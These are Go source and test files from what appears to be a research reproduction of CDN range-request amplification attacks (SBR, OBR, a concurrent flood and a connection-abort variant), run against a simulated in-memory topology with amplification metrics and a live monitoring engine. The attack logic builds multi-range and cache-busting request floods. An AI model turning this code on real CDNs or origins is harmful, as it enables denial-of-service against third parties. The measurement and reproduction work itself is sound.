		Path: path, ResourceSize: resourceSize, Workers: workers, PerWorker: perWorker,
	})
}

// RunSBRFloodOptsContext is RunSBRFloodContext with explicit options;
// the positional arguments override the corresponding opts fields.
//
// Deprecated: use RunSBRFloodOpts, which takes the same options with
// the target and load shape as FloodOptions fields.
func RunSBRFloodOptsContext(ctx context.Context, t *SBRTopology, path string, resourceSize int64, workers, perWorker int, opts FloodOptions) (*FloodResult, error) {
	opts.Path = path
	opts.ResourceSize = resourceSize
	opts.Workers = workers
	opts.PerWorker = perWorker
	return RunSBRFloodOpts(ctx, t, opts)
}
