package core

import (
	"context"
	"fmt"
	"sync"

	"repro/internal/measure"
	"repro/internal/origin"
)

// This file holds the context-aware attack entry points. Each attack
// is a sequence of hops (edge round-trips); cancellation is honoured
// between hops, never mid-transfer, so a cancelled run leaves the
// topology in a consistent state and its partial traffic remains
// visible in the metrics registry.

// RunSBRContext is RunSBR honouring ctx between hops. A cancelled
// context returns ctx.Err() before the next request is sent; requests
// already in flight complete normally.
func RunSBRContext(ctx context.Context, t *SBRTopology, path string, resourceSize int64, cacheBuster string) (*SBRResult, error) {
	exploit := SBRExploit(t.Profile.Name, resourceSize)
	probe := measure.NewProbe(t.OriginSeg, t.ClientSeg)
	target := path + "?cb=" + cacheBuster

	result := &SBRResult{Case: exploit}
	for i := 0; i < exploit.Repeat; i++ {
		if err := ctx.Err(); err != nil {
			return nil, fmt.Errorf("sbr request %d: %w", i, err)
		}
		req := NewAttackRequest(target)
		req.Headers.Add("Range", exploit.RangeHeader)
		resp, err := origin.Fetch(t.Net, t.EdgeAddr, t.ClientSeg, req)
		if err != nil {
			return nil, fmt.Errorf("sbr request %d: %w", i, err)
		}
		result.Responses = append(result.Responses, resp)
	}
	result.Amplification = probe.Delta()
	return result, nil
}

// RunOBRContext is RunOBR honouring ctx: a context already cancelled
// when the attack request would be sent returns ctx.Err().
func RunOBRContext(ctx context.Context, t *OBRTopology, path string, n int) (*OBRResult, error) {
	plan := PlanMaxN(t.FCDN.Profile(), t.BCDN.Profile(), path)
	if n > 0 {
		plan.N = n
	}
	if plan.N < 1 {
		return nil, fmt.Errorf("obr: no usable n for %s->%s", t.FCDN.Profile().Name, t.BCDN.Profile().Name)
	}
	if err := ctx.Err(); err != nil {
		return nil, fmt.Errorf("obr request: %w", err)
	}
	probe := measure.NewProbe(t.FcdnBcdnSeg, t.BcdnOriginSeg)
	req := NewAttackRequest(path)
	req.Headers.Add("Range", BuildOverlappingRange(plan.FirstToken, plan.N))
	resp, err := origin.Fetch(t.Net, t.FCDNAddr, t.ClientSeg, req)
	if err != nil {
		return nil, fmt.Errorf("obr request: %w", err)
	}
	// Table V's two byte counts use the paper's own (mixed) vantage
	// points: fcdn-bcdn traffic was collected at an application-level
	// proxy the authors inserted between the CDNs, while bcdn-origin
	// traffic was captured on the wire (its 1676B for a 1KB resource
	// includes TCP/IP framing and handshakes). We therefore report the
	// application-level delta for the victim segment and the
	// capture-level estimate for the origin segment.
	appDelta := probe.Delta()
	wireDelta := probe.WireDelta()
	return &OBRResult{
		Case: plan,
		Amplification: measure.Amplification{
			VictimBytes:   appDelta.VictimBytes,    // fcdn-bcdn response bytes (proxy view)
			AttackerBytes: wireDelta.AttackerBytes, // bcdn-origin response bytes (capture view)
		},
		Response: resp,
		Parts:    CountParts(resp),
	}, nil
}

// RunSBRFloodContext is RunSBRFlood honouring ctx: each worker checks
// the context before every request and stops early when it is
// cancelled. A cancelled flood returns ctx.Err(); the traffic its
// completed requests generated stays accounted in the registry, which
// is how the scheduler tests observe partial progress.
func RunSBRFloodContext(ctx context.Context, t *SBRTopology, path string, resourceSize int64, workers, perWorker int) (*FloodResult, error) {
	exploit := SBRExploit(t.Profile.Name, resourceSize)
	probe := measure.NewProbe(t.OriginSeg, t.ClientSeg)

	var (
		wg       sync.WaitGroup
		mu       sync.Mutex
		requests int
		failures int
		blocked  int
		firstErr error
	)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWorker; i++ {
				target := fmt.Sprintf("%s?cb=w%d-%d", path, w, i)
				for r := 0; r < exploit.Repeat; r++ {
					if ctx.Err() != nil {
						return
					}
					req := NewAttackRequest(target)
					req.Headers.Add("Range", exploit.RangeHeader)
					resp, err := origin.Fetch(t.Net, t.EdgeAddr, t.ClientSeg, req)
					mu.Lock()
					requests++
					switch {
					case err != nil:
						failures++
						if firstErr == nil {
							firstErr = err
						}
					case resp.StatusCode == 403 || resp.StatusCode == 431:
						blocked++
					}
					mu.Unlock()
				}
			}
		}(w)
	}
	wg.Wait()
	if err := ctx.Err(); err != nil {
		return nil, fmt.Errorf("flood: cancelled after %d requests: %w", requests, err)
	}
	if firstErr != nil {
		return nil, fmt.Errorf("flood: %d failures, first: %w", failures, firstErr)
	}
	return &FloodResult{
		Requests:      requests,
		Failures:      failures,
		Blocked:       blocked,
		Amplification: probe.Delta(),
	}, nil
}
