package core

import (
	"testing"
	"time"

	"repro/internal/resource"
	"repro/internal/vendor"
)

func TestRunOBRAbortedStillAmplifies(t *testing.T) {
	// §IV-C: aborting the client-cdn connection does not stop the
	// upstream transfer — the fcdn-bcdn segment still carries the whole
	// n-part response while the attacker receives almost nothing.
	store := resource.NewStore()
	store.AddSynthetic("/1KB.bin", 1024, "application/octet-stream")
	topo, err := NewOBRTopology(vendor.Cloudflare(), vendor.Akamai(), store)
	if err != nil {
		t.Fatal(err)
	}
	defer topo.Close()

	const n = 200
	result, err := RunOBRAborted(topo, "/1KB.bin", n)
	if err != nil {
		t.Fatal(err)
	}
	victim := result.Amplification.VictimBytes
	if victim < n*1024 {
		t.Errorf("fcdn-bcdn carried %d bytes, want >= %d despite the abort", victim, n*1024)
	}
	// The attacker read nothing; only the window the FCDN managed to
	// push before noticing the close could count on the client segment.
	attacker := result.Amplification.AttackerBytes
	if attacker > 2*256<<10 {
		t.Errorf("attacker received %d bytes, want at most ~one window", attacker)
	}
	if attacker >= victim/10 {
		t.Errorf("abort saved nothing: attacker=%d victim=%d", attacker, victim)
	}
}

func TestWaitQuiescent(t *testing.T) {
	// A static counter returns promptly.
	start := time.Now()
	if err := waitQuiescent(func() int64 { return 42 }, time.Second); err != nil {
		t.Fatal(err)
	}
	if time.Since(start) > 500*time.Millisecond {
		t.Error("quiescence detection too slow for a static counter")
	}
	// A counter that keeps moving hits the deadline.
	var v int64
	err := waitQuiescent(func() int64 { v++; return v }, 80*time.Millisecond)
	if err == nil {
		t.Error("moving counter reported quiescent")
	}
}

func TestRunOBRAbortedUsesPlannedMax(t *testing.T) {
	store := resource.NewStore()
	store.AddSynthetic("/1KB.bin", 1024, "application/octet-stream")
	topo, err := NewOBRTopology(vendor.Cloudflare(), vendor.Azure(), store)
	if err != nil {
		t.Fatal(err)
	}
	defer topo.Close()
	result, err := RunOBRAborted(topo, "/1KB.bin", 0)
	if err != nil {
		t.Fatal(err)
	}
	if result.Case.N != 64 {
		t.Errorf("planned n = %d, want Azure's 64", result.Case.N)
	}
}
