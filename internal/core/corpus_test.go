package core

import (
	"strings"
	"testing"

	"repro/internal/vendor"
)

func TestCorpusAuditNoViolations(t *testing.T) {
	rep, err := CorpusAudit(7, 60)
	if err != nil {
		t.Fatal(err)
	}
	if rep.Requests != 60*13 {
		t.Errorf("audited %d requests, want %d", rep.Requests, 60*13)
	}
	if len(rep.Violations) != 0 {
		t.Errorf("protocol violations: %v", rep.Violations)
	}
}

func TestCorpusAuditPolicyCensus(t *testing.T) {
	rep, err := CorpusAudit(11, 80)
	if err != nil {
		t.Fatal(err)
	}
	// Pure-Deletion vendors never forward anything unchanged or expanded.
	for _, name := range []string{"Akamai", "Cloudflare", "Fastly", "G-Core Labs"} {
		counts := rep.PolicyCounts[name]
		if counts[vendor.Laziness] != 0 || counts[vendor.Expansion] != 0 {
			t.Errorf("%s census = %v, want all Deletion", name, counts)
		}
		if counts[vendor.Deletion] != 80 {
			t.Errorf("%s deletion count = %d", name, counts[vendor.Deletion])
		}
	}
	// CloudFront is the only Expansion vendor.
	for name, counts := range rep.PolicyCounts {
		if name != "CloudFront" && counts[vendor.Expansion] != 0 {
			t.Errorf("%s shows Expansion", name)
		}
	}
	if rep.PolicyCounts["CloudFront"][vendor.Expansion] == 0 {
		t.Error("CloudFront never expanded")
	}
	// Lazy-leaning vendors must show Laziness on the corpus.
	for _, name := range []string{"CDN77", "CDNsun", "KeyCDN"} {
		if rep.PolicyCounts[name][vendor.Laziness] == 0 {
			t.Errorf("%s never forwarded lazily", name)
		}
	}
}

func TestCorpusAuditDeterministic(t *testing.T) {
	a, err := CorpusAudit(3, 30)
	if err != nil {
		t.Fatal(err)
	}
	b, err := CorpusAudit(3, 30)
	if err != nil {
		t.Fatal(err)
	}
	for name, counts := range a.PolicyCounts {
		for policy, n := range counts {
			if b.PolicyCounts[name][policy] != n {
				t.Errorf("%s/%v: %d vs %d", name, policy, n, b.PolicyCounts[name][policy])
			}
		}
	}
}

func TestCorpusTableRenders(t *testing.T) {
	rep, err := CorpusAudit(5, 10)
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	if err := rep.Table().Render(&b); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "Akamai") || !strings.Contains(b.String(), "Violations") {
		t.Errorf("table output:\n%s", b.String())
	}
}

func TestContentRangeLength(t *testing.T) {
	tests := []struct {
		in   string
		want int64
		ok   bool
	}{
		{"bytes 0-0/1000", 1, true},
		{"bytes 10-19/1000", 10, true},
		{"bytes 5-1/1000", 0, false},
		{"garbage", 0, false},
	}
	for _, tt := range tests {
		got, ok := contentRangeLength(tt.in)
		if got != tt.want || ok != tt.ok {
			t.Errorf("contentRangeLength(%q) = %d,%v", tt.in, got, ok)
		}
	}
}
