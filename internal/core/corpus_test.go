package core

import (
	"context"
	"strings"
	"testing"

	"repro/internal/vendor"
)

// The full 13-vendor corpus-audit tests live in internal/exp next to
// the registered experiment; here we cover the per-vendor cell and the
// plain helpers.

func TestAuditVendorSingleCell(t *testing.T) {
	corpus := NewCorpus(7, 25)
	a, err := AuditVendor(context.Background(), NewRuntime(), vendor.Akamai(), corpus)
	if err != nil {
		t.Fatal(err)
	}
	if a.Requests != 25 {
		t.Errorf("audited %d requests, want 25", a.Requests)
	}
	if a.Name != "akamai" || a.DisplayName != "Akamai" {
		t.Errorf("identity: %q / %q", a.Name, a.DisplayName)
	}
	// Akamai is a pure-Deletion vendor: every corpus element is stripped.
	if a.Counts[vendor.Deletion] != 25 || a.Counts[vendor.Laziness] != 0 {
		t.Errorf("census = %v, want all Deletion", a.Counts)
	}
	if len(a.Violations) != 0 {
		t.Errorf("violations: %v", a.Violations)
	}
}

func TestAuditVendorCancellation(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := AuditVendor(ctx, NewRuntime(), vendor.Akamai(), NewCorpus(1, 5)); err == nil {
		t.Error("cancelled context accepted")
	}
}

func TestNewCorpusDeterministic(t *testing.T) {
	a, b := NewCorpus(3, 30), NewCorpus(3, 30)
	if len(a) != 30 || len(b) != 30 {
		t.Fatalf("lengths %d, %d", len(a), len(b))
	}
	for i := range a {
		if a[i].HeaderValue() != b[i].HeaderValue() {
			t.Errorf("corpus[%d]: %q vs %q", i, a[i].HeaderValue(), b[i].HeaderValue())
		}
	}
}

func TestCorpusReportMerge(t *testing.T) {
	corpus := NewCorpus(5, 10)
	rep := &CorpusReport{}
	for _, name := range []string{"akamai", "cdn77"} {
		p, _ := vendor.ByName(name)
		a, err := AuditVendor(context.Background(), NewRuntime(), p, corpus)
		if err != nil {
			t.Fatal(err)
		}
		rep.Merge(a)
	}
	if rep.Requests != 20 {
		t.Errorf("merged %d requests, want 20", rep.Requests)
	}
	if len(rep.PolicyCounts) != 2 {
		t.Errorf("census covers %d vendors", len(rep.PolicyCounts))
	}
	var b strings.Builder
	if err := rep.Table().Render(&b); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "Akamai") || !strings.Contains(b.String(), "Violations") {
		t.Errorf("table output:\n%s", b.String())
	}
}

func TestContentRangeLength(t *testing.T) {
	tests := []struct {
		in   string
		want int64
		ok   bool
	}{
		{"bytes 0-0/1000", 1, true},
		{"bytes 10-19/1000", 10, true},
		{"bytes 5-1/1000", 0, false},
		{"garbage", 0, false},
	}
	for _, tt := range tests {
		got, ok := contentRangeLength(tt.in)
		if got != tt.want || ok != tt.ok {
			t.Errorf("contentRangeLength(%q) = %d,%v", tt.in, got, ok)
		}
	}
}
