package core

import (
	"fmt"
	"sync"
	"testing"

	"repro/internal/resource"
	"repro/internal/vendor"
)

// TestSharedResourceViewMutationSafety exercises the zero-copy
// aliasing contract under -race: responses returned by a topology alias
// the shared resource store, so a consumer that wants to scribble on a
// body must deep-Clone first. One goroutine mutates its deep clone
// while others run attacks reading the same shared views; the store's
// bytes must come through unchanged every time.
func TestSharedResourceViewMutationSafety(t *testing.T) {
	store := resource.NewStore()
	res := store.AddSynthetic("/1MB.bin", 1<<20, "application/octet-stream")

	mutTopo, err := NewSBRTopology(vendor.Cloudflare(), store, SBROptions{OriginRangeSupport: true})
	if err != nil {
		t.Fatal(err)
	}
	defer mutTopo.Close()
	readTopo, err := NewSBRTopology(vendor.Fastly(), store, SBROptions{OriginRangeSupport: true})
	if err != nil {
		t.Fatal(err)
	}
	defer readTopo.Close()

	const rounds = 8
	var wg sync.WaitGroup
	wg.Add(2)
	go func() {
		defer wg.Done()
		for i := 0; i < rounds; i++ {
			r, err := RunSBR(mutTopo, "/1MB.bin", 1<<20, fmt.Sprintf("mut%d", i))
			if err != nil {
				t.Errorf("mutator round %d: %v", i, err)
				return
			}
			for _, resp := range r.Responses {
				// Deep clone detaches the body from every shared view;
				// scribbling on it must be invisible to other readers.
				cp := resp.Clone()
				for j := range cp.Body {
					cp.Body[j] = 0xFF
				}
			}
		}
	}()
	go func() {
		defer wg.Done()
		for i := 0; i < rounds; i++ {
			r, err := RunSBR(readTopo, "/1MB.bin", 1<<20, fmt.Sprintf("read%d", i))
			if err != nil {
				t.Errorf("reader round %d: %v", i, err)
				return
			}
			for _, resp := range r.Responses {
				body := resp.BodyBytes()
				if resp.StatusCode != 200 || len(body) != 1<<20 {
					continue
				}
				// A full-body response is the pattern from offset 0; the
				// mutator's scribbling must never show through.
				for _, j := range []int{0, len(body) / 2, len(body) - 1} {
					want := byte(j*131 + j>>8*31 + 7)
					if body[j] != want {
						t.Errorf("reader round %d: shared view corrupted at %d (%#x != %#x)",
							i, j, body[j], want)
						return
					}
				}
			}
		}
	}()
	wg.Wait()

	// The store itself must be pristine after all mutations.
	for _, i := range []int{0, 1 << 10, 1<<20 - 1} {
		want := byte(i*131 + i>>8*31 + 7)
		if res.Data[i] != want {
			t.Fatalf("store corrupted at %d: %#x != %#x", i, res.Data[i], want)
		}
	}
}
