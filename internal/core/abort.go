package core

import (
	"fmt"
	"time"

	"repro/internal/measure"
)

// RunOBRAborted performs the §IV-C low-cost OBR variant: the attacker
// sends the multi-range request and immediately aborts the client-fcdn
// connection (the paper's Slowloris-style cost reduction — "the
// attacker is able to consume much smaller resources by actively
// aborting the client-cdn connection"). The FCDN still completes its
// upstream pull, so the fcdn-bcdn segment carries the full n-part
// response while the attacker receives almost nothing.
//
// The returned Amplification compares fcdn-bcdn response traffic with
// what the *attacker* received on the client segment (not bcdn-origin),
// quantifying the attacker-side cost saving.
func RunOBRAborted(t *OBRTopology, path string, n int) (*OBRResult, error) {
	plan := PlanMaxN(t.FCDN.Profile(), t.BCDN.Profile(), path)
	if n > 0 {
		plan.N = n
	}
	if plan.N < 1 {
		return nil, fmt.Errorf("obr: no usable n for %s->%s", t.FCDN.Profile().Name, t.BCDN.Profile().Name)
	}
	probe := measure.NewProbe(t.FcdnBcdnSeg, t.ClientSeg)

	req := NewAttackRequest(path)
	req.Headers.Add("Range", BuildOverlappingRange(plan.FirstToken, plan.N))
	req.Headers.Set("Connection", "close")

	conn, err := t.Net.Dial(t.FCDNAddr, t.ClientSeg)
	if err != nil {
		return nil, fmt.Errorf("dial fcdn: %w", err)
	}
	if _, err := req.WriteTo(conn); err != nil {
		conn.Close()
		return nil, fmt.Errorf("write request: %w", err)
	}
	// Abort immediately: the attacker never reads the response.
	conn.Close()

	// The FCDN's upstream pull continues in the background; wait until
	// the fcdn-bcdn counter goes quiet.
	if err := waitQuiescent(func() int64 { return t.FcdnBcdnSeg.Traffic().Down }, 5*time.Second); err != nil {
		return nil, err
	}
	delta := probe.Delta()
	return &OBRResult{
		Case:          plan,
		Amplification: delta,
	}, nil
}

// waitQuiescent polls a counter until it stops changing for a few
// consecutive polls (the background transfer completed or stalled), or
// the deadline passes with the counter still moving.
func waitQuiescent(counter func() int64, deadline time.Duration) error {
	const (
		poll        = 5 * time.Millisecond
		quietRounds = 10
	)
	var (
		last  = counter()
		quiet = 0
	)
	for elapsed := time.Duration(0); elapsed < deadline; elapsed += poll {
		time.Sleep(poll)
		cur := counter()
		if cur == last {
			quiet++
			if quiet >= quietRounds {
				return nil
			}
			continue
		}
		last, quiet = cur, 0
	}
	return fmt.Errorf("core: transfer still active after %v", deadline)
}
