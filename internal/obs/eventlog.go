package obs

import (
	"encoding/json"
	"io"
	"sync"
	"time"
)

// Event is one structured lifecycle record in an EventLog stream. The
// campaign runner emits these for cell scheduling (see the Event*
// constants); the type is generic so later planes (detection scenarios,
// long floods) can stream their own lifecycles through the same sink.
type Event struct {
	Time  time.Time `json:"time"`
	Event string    `json:"event"`
	// Campaign context.
	Campaign string `json:"campaign,omitempty"`
	Cell     string `json:"cell,omitempty"`  // cell hash
	Label    string `json:"label,omitempty"` // human-readable cell config
	// Progress accounting: Done of Total cells finished (executed or
	// skipped), estimated time remaining, and this cell's wall time.
	Done       int    `json:"done,omitempty"`
	Total      int    `json:"total,omitempty"`
	DurationMS int64  `json:"duration_ms,omitempty"`
	EtaMS      int64  `json:"eta_ms,omitempty"`
	Error      string `json:"error,omitempty"`
}

// The campaign cell lifecycle event names.
const (
	EventCampaignStart  = "campaign_start"
	EventCellQueued     = "cell_queued"
	EventCellStart      = "cell_start"
	EventCellFinish     = "cell_finish"
	EventCellSkip       = "cell_skip"
	EventCampaignFinish = "campaign_finish"
)

// EventLog serializes events as JSON Lines onto one writer. Emit is
// safe for concurrent use (campaign workers finish cells in parallel);
// each event is written as exactly one line. A nil *EventLog is a
// valid no-op sink, so emitting code needs no conditionals.
type EventLog struct {
	mu  sync.Mutex
	w   io.Writer
	now func() time.Time
}

// NewEventLog returns a log writing to w. now is the injectable clock
// stamped onto events that arrive without a Time; nil means time.Now.
func NewEventLog(w io.Writer, now func() time.Time) *EventLog {
	if now == nil {
		now = time.Now
	}
	return &EventLog{w: w, now: now}
}

// Emit writes one event line. Marshal and write errors are dropped —
// progress streaming must never fail the run it narrates.
func (l *EventLog) Emit(ev Event) {
	if l == nil {
		return
	}
	if ev.Time.IsZero() {
		ev.Time = l.now()
	}
	data, err := json.Marshal(ev)
	if err != nil {
		return
	}
	data = append(data, '\n')
	l.mu.Lock()
	l.w.Write(data) //nolint:errcheck // see above
	l.mu.Unlock()
}
