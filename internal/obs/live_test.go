// Integration tests: the obs engine watching a real in-memory SBR
// topology. These live in package obs_test so they can import core
// (core never imports obs, but the external package keeps that
// direction obvious).
package obs_test

import (
	"bufio"
	"context"
	"encoding/json"
	"math"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"repro/internal/core"
	"repro/internal/measure"
	"repro/internal/obs"
	"repro/internal/resource"
	"repro/internal/vendor"
)

const (
	livePath        = "/video.mp4"
	liveSize        = 256 << 10
	liveContentType = "video/mp4"
)

func liveTopology(t *testing.T) (*core.SBRTopology, *core.Runtime) {
	t.Helper()
	rt := core.NewRuntime()
	store := resource.NewStore()
	store.AddSynthetic(livePath, liveSize, liveContentType)
	topo, err := core.NewSBRTopology(vendor.Cloudflare(), store, core.SBROptions{
		OriginRangeSupport: true,
		Runtime:            rt,
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(topo.Close)
	if err := core.PrimeSizeHint(topo, livePath); err != nil {
		t.Fatal(err)
	}
	return topo, rt
}

// TestInFlightFactorConvergesToFinalStats is the issue's acceptance
// check: during a flood, the engine's in-flight amplification factor
// must converge within 10% of the run's final Result.Stats-derived
// factor, and the cumulative factor must match it exactly. The clock
// is injected; each "second" of wall time is one flood burst.
func TestInFlightFactorConvergesToFinalStats(t *testing.T) {
	topo, rt := liveTopology(t)

	now := time.Unix(1700000000, 0)
	e := obs.New(obs.Config{Registry: rt.Metrics, Now: func() time.Time { return now }})
	defer e.Stop()

	// Baseline after priming: the engine and the flood results account
	// from the same instant.
	e.Sample()

	var total measure.Amplification
	var last obs.Frame
	const bursts = 6
	for i := 0; i < bursts; i++ {
		res, err := core.RunSBRFloodOpts(context.Background(), topo, core.FloodOptions{
			Path: livePath, ResourceSize: liveSize, Workers: 4, PerWorker: 3,
		})
		if err != nil {
			t.Fatal(err)
		}
		total.VictimBytes += res.Amplification.VictimBytes
		total.AttackerBytes += res.Amplification.AttackerBytes
		now = now.Add(time.Second)
		last = e.Sample()
	}

	final := total.Factor()
	if final <= 1 {
		t.Fatalf("flood did not amplify: final factor %v", final)
	}
	if last.Amp.Factor <= 0 {
		t.Fatal("no in-flight factor derived")
	}
	// The EWMA factor must have converged within 10% of the final
	// Stats-derived factor (the bursts are identically shaped except for
	// first-burst cache warmup, which the smoothing absorbs).
	if rel := math.Abs(last.Amp.Factor-final) / final; rel > 0.10 {
		t.Errorf("in-flight factor %v vs final %v: off by %.1f%%, want <=10%%",
			last.Amp.Factor, final, rel*100)
	}
	// The cumulative factor is exact: the registry mirrors the probe's
	// segment counters bit-for-bit.
	if rel := math.Abs(last.Amp.CumFactor-final) / final; rel > 1e-9 {
		t.Errorf("cum factor %v != final %v", last.Amp.CumFactor, final)
	}
	if last.Amp.VictimSegment != "cdn-origin" || last.Amp.AttackerSegment != "client-cdn" {
		t.Errorf("amp segments = %s/%s", last.Amp.VictimSegment, last.Amp.AttackerSegment)
	}
}

// TestSSEStreamUnderFlood runs concurrent SSE consumers against the
// handler while a keep-alive flood hammers the topology, under -race:
// sampler, subscribers and flood workers all touch the registry and
// engine at once.
func TestSSEStreamUnderFlood(t *testing.T) {
	topo, rt := liveTopology(t)

	e := obs.New(obs.Config{Registry: rt.Metrics, Interval: 5 * time.Millisecond})
	e.Start()
	defer e.Stop()

	srv := httptest.NewServer(e.Handler())
	defer srv.Close()

	floodDone := make(chan error, 1)
	go func() {
		_, err := core.RunSBRFloodOpts(context.Background(), topo, core.FloodOptions{
			Path: livePath, ResourceSize: liveSize, Workers: 4, PerWorker: 200,
			KeepAlive: true,
		})
		floodDone <- err
	}()

	const consumers = 4
	var wg sync.WaitGroup
	for c := 0; c < consumers; c++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			resp, err := http.Get(srv.URL + "?sse=1&frames=3")
			if err != nil {
				t.Errorf("sse get: %v", err)
				return
			}
			defer resp.Body.Close()
			if ct := resp.Header.Get("Content-Type"); ct != "text/event-stream" {
				t.Errorf("content type = %q", ct)
				return
			}
			frames := 0
			sc := bufio.NewScanner(resp.Body)
			sc.Buffer(make([]byte, 1<<20), 1<<20)
			for sc.Scan() {
				line := sc.Text()
				if !strings.HasPrefix(line, "data: ") {
					continue
				}
				var f obs.Frame
				if err := json.Unmarshal([]byte(strings.TrimPrefix(line, "data: ")), &f); err != nil {
					t.Errorf("bad SSE frame: %v", err)
					return
				}
				if f.Seq == 0 {
					t.Error("SSE published the baseline frame")
				}
				frames++
			}
			if frames != 3 {
				t.Errorf("consumer got %d frames, want 3", frames)
			}
		}()
	}
	wg.Wait()
	if err := <-floodDone; err != nil {
		t.Fatal(err)
	}

	// One-shot JSON view after the flood: the latest frame parses and
	// names the victim segment.
	resp, err := http.Get(srv.URL)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var f obs.Frame
	if err := json.NewDecoder(resp.Body).Decode(&f); err != nil {
		t.Fatal(err)
	}
	if f.Amp.VictimSegment != "cdn-origin" {
		t.Errorf("one-shot victim segment = %q", f.Amp.VictimSegment)
	}

	// Ring view: ?window=1 returns an array.
	resp2, err := http.Get(srv.URL + "?window=1")
	if err != nil {
		t.Fatal(err)
	}
	defer resp2.Body.Close()
	var ring []obs.Frame
	if err := json.NewDecoder(resp2.Body).Decode(&ring); err != nil {
		t.Fatal(err)
	}
	if len(ring) == 0 {
		t.Error("empty ring after flood")
	}
}
