package obs

import (
	"encoding/json"
	"net/http"
	"strings"
)

// Handler serves the engine's live view at /debug/live in two shapes:
//
//   - One-shot (default): the latest derived frame as a JSON object.
//     `?window=1` returns the whole ring as a JSON array instead —
//     everything the engine currently remembers.
//   - Stream (`?sse=1`, or an Accept header asking for
//     text/event-stream): a Server-Sent Events stream, one `data:`
//     line per window frame as it is derived, until the client goes
//     away or the engine stops. `?frames=N` ends the stream after N
//     frames (scripted consumers; 0 = unbounded).
//
// Frames are dropped, never queued unboundedly, for slow stream
// consumers — the sampler's cadence wins over any one client.
func (e *Engine) Handler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		q := r.URL.Query()
		if q.Get("sse") != "" || strings.Contains(r.Header.Get("Accept"), "text/event-stream") {
			e.serveSSE(w, r)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		enc := json.NewEncoder(w)
		if q.Get("window") != "" {
			enc.Encode(e.Frames()) //nolint:errcheck // client went away
			return
		}
		latest, _ := e.Latest() // zero frame (seq 0) before the first window
		enc.Encode(latest)      //nolint:errcheck // client went away
	})
}

func (e *Engine) serveSSE(w http.ResponseWriter, r *http.Request) {
	flusher, ok := w.(http.Flusher)
	if !ok {
		http.Error(w, "streaming unsupported", http.StatusNotImplemented)
		return
	}
	max := 0
	if v := r.URL.Query().Get("frames"); v != "" {
		// Bad values keep the stream unbounded; this is a debug surface.
		json.Unmarshal([]byte(v), &max) //nolint:errcheck
	}
	w.Header().Set("Content-Type", "text/event-stream")
	w.Header().Set("Cache-Control", "no-store")
	w.WriteHeader(http.StatusOK)
	flusher.Flush()

	frames, cancel := e.Subscribe(8)
	defer cancel()
	sent := 0
	for {
		select {
		case f, ok := <-frames:
			if !ok {
				return // engine stopped
			}
			data, err := json.Marshal(f)
			if err != nil {
				return
			}
			if _, err := w.Write([]byte("data: ")); err != nil {
				return
			}
			if _, err := w.Write(data); err != nil {
				return
			}
			if _, err := w.Write([]byte("\n\n")); err != nil {
				return
			}
			flusher.Flush()
			sent++
			if max > 0 && sent >= max {
				return
			}
		case <-r.Context().Done():
			return
		}
	}
}
