package obs

import (
	"testing"
	"time"

	"repro/internal/metrics"
)

// clock is the injectable test clock: every Now() returns the current
// instant; Advance moves it deterministically.
type clock struct{ t time.Time }

func newClock() *clock                   { return &clock{t: time.Unix(1700000000, 0)} }
func (c *clock) Now() time.Time          { return c.t }
func (c *clock) Advance(d time.Duration) { c.t = c.t.Add(d) }

// testEngine builds an engine over a fresh registry with a test clock.
func testEngine(t *testing.T, cfg Config) (*Engine, *metrics.Registry, *clock) {
	t.Helper()
	reg := metrics.New()
	clk := newClock()
	cfg.Registry = reg
	cfg.Now = clk.Now
	e := New(cfg)
	t.Cleanup(e.Stop)
	return e, reg, clk
}

func seg(reg *metrics.Registry, name, dir string) *metrics.Counter {
	return reg.Counter("netsim_segment_bytes_total", "bytes",
		metrics.L("segment", name), metrics.L("direction", dir))
}

func TestFirstSampleIsBaseline(t *testing.T) {
	e, reg, _ := testEngine(t, Config{})
	seg(reg, "cdn-origin", "down").Add(1000)
	f := e.Sample()
	if f.Seq != 0 {
		t.Errorf("baseline frame seq = %d, want 0", f.Seq)
	}
	if _, ok := e.Latest(); ok {
		t.Error("baseline frame must not enter the ring")
	}
}

func TestWindowRatesFromDeterministicClock(t *testing.T) {
	e, reg, clk := testEngine(t, Config{})
	victim := seg(reg, "cdn-origin", "down")
	attacker := seg(reg, "client-cdn", "down")
	up := seg(reg, "client-cdn", "up")
	e.Sample() // baseline

	victim.Add(10_000_000) // 10 MB over 2s -> 5 MB/s
	attacker.Add(20_000)   // 20 KB over 2s -> 10 KB/s
	up.Add(4_000)
	clk.Advance(2 * time.Second)
	f := e.Sample()

	if f.Seq != 1 || f.IntervalMS != 2000 {
		t.Fatalf("frame seq/interval = %d/%d, want 1/2000", f.Seq, f.IntervalMS)
	}
	rates := map[string]SegmentRate{}
	for _, s := range f.Segments {
		rates[s.Segment] = s
	}
	if got := rates["cdn-origin"].DownBps; got != 5_000_000 {
		t.Errorf("victim down rate = %d, want 5000000", got)
	}
	if got := rates["client-cdn"].DownBps; got != 10_000 {
		t.Errorf("attacker down rate = %d, want 10000", got)
	}
	if got := rates["client-cdn"].UpBps; got != 2_000 {
		t.Errorf("attacker up rate = %d, want 2000", got)
	}
	if f.Amp.VictimBps != 5_000_000 || f.Amp.AttackerBps != 10_000 {
		t.Errorf("amp rates = %d/%d", f.Amp.VictimBps, f.Amp.AttackerBps)
	}
	if got, want := f.Amp.Factor, 500.0; got != want {
		t.Errorf("first-window factor = %v, want %v (EWMA seeds at the first rate)", got, want)
	}
	if got, want := f.Amp.CumFactor, 500.0; got != want {
		t.Errorf("cum factor = %v, want %v", got, want)
	}
}

func TestEWMASmoothsRateSteps(t *testing.T) {
	e, reg, clk := testEngine(t, Config{Alpha: 0.5})
	victim := seg(reg, "cdn-origin", "down")
	attacker := seg(reg, "client-cdn", "down")
	e.Sample()

	// Window 1: 1000 B/s victim, 10 B/s attacker -> EWMA seeds 100x.
	victim.Add(1000)
	attacker.Add(10)
	clk.Advance(time.Second)
	f1 := e.Sample()
